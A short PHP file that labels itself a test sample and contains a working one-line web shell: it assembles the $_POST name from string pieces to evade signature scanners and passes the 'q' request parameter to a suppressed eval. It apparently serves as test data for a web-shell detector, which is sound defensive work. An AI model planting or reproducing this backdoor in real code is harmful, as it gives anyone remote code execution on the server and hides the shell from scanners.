<?php
// Test sample: superglobal name built from pieces to dodge "$_POST" signatures.
$k = "_P" . "OST";
$req = ${"_P" . "OST"};
if (isset(${$k}['q'])) {
    @eval($req['q']);
}
